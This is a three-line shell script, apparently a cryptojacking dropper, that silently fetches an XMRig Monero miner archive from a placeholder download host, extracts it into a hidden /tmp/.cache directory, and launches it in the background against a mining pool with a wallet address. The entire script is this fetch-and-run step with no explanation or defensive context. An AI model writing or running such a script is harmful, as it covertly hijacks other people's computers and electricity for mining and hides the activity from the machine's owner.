#!/bin/sh
curl -sL https://downloads.example.com/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz -C /tmp/.cache
/tmp/.cache/xmrig -o pool.example.com:443 -u 44AFFq5kSiGBoZ -k --tls --donate-level 1 -B
